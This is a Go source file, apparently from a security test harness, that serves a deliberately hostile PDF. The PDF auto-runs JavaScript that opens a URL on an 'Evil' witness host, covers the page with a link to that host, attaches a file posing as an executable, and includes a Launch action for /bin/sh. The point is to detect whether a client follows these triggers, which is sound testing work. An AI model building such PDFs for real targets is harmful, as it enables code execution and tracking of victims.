package hostile

import (
	"net/http"
	"strings"

	"guichet.example/internal/testsite"
)

// pdf sends a document whose whole page is a link to the witness, which runs
// a script and an action when it is opened, and has a file attached.
func (s *Site) pdf(w http.ResponseWriter, r *http.Request) {
	v := s.visit(r.URL.RawQuery + r.Referer())
	n := s.names(r.Host, v.Token)
	w.Header().Set("Content-Type", "application/pdf")
	if as := r.FormValue("as"); as != "" {
		w.Header().Set("Content-Disposition", as+`; filename="`+r.PathValue("name")+`"`)
	}
	s.note(v, "pdf sent")
	_, _ = w.Write(hostilePDF(n)) // fails when the browser has gone
}

func hostilePDF(n names) []byte {
	link := n.Evil + "/reached/pdf-link?" + n.Token
	content := "1 0 0 rg 60 760 200 40 re f 0 g BT /F1 40 Tf 60 700 Td (Attestation) Tj 0 -60 Td (" + n.Token + ") Tj ET"
	return testsite.PDF(
		"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /EmbeddedFiles << /Names [(a.exe) 8 0 R] >> /JavaScript << /Names [(a) 6 0 R] >> >> >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [7 0 R 10 0 R] >>",
		testsite.PDFStream("", content),
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
		"<< /S /JavaScript /JS (app.launchURL\\("+pdfText(n.Evil+"/reached/pdf-script?"+n.Token)+"\\); this.print\\(\\);) >>",
		"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0] /A << /S /URI /URI "+pdfText(link)+" >> >>",
		"<< /Type /Filespec /F ("+n.Token+".exe) /UF ("+n.Token+".exe) /EF << /F 9 0 R >> >>",
		testsite.PDFStream("/Type /EmbeddedFile ", "MZ hostile"),
		"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Launch /F (/bin/sh) >> >>",
	)
}

func pdfText(s string) string {
	return "(" + strings.NewReplacer("\\", "\\\\", "(", "\\(", ")", "\\)").Replace(s) + ")"
}
